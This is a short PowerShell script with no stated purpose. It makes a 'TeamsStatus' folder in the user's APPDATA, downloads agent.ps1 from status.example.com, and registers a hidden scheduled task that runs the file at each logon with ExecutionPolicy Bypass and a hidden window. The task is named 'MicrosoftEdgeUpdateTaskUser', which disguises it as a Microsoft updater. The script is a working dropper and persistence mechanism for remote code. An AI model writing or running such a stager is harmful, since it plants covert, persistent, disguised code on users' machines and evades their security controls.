$dir = "$env:APPDATA\TeamsStatus"
New-Item -ItemType Directory -Force $dir | Out-Null
Invoke-WebRequest https://status.example.com/agent.ps1 -OutFile "$dir\agent.ps1"
$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -ExecutionPolicy Bypass -File `"$dir\agent.ps1`""
$t = New-ScheduledTaskTrigger -AtLogOn
$s = New-ScheduledTaskSettingsSet -Hidden
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskUser' -Action $a -Trigger $t -Settings $s -Force | Out-Null
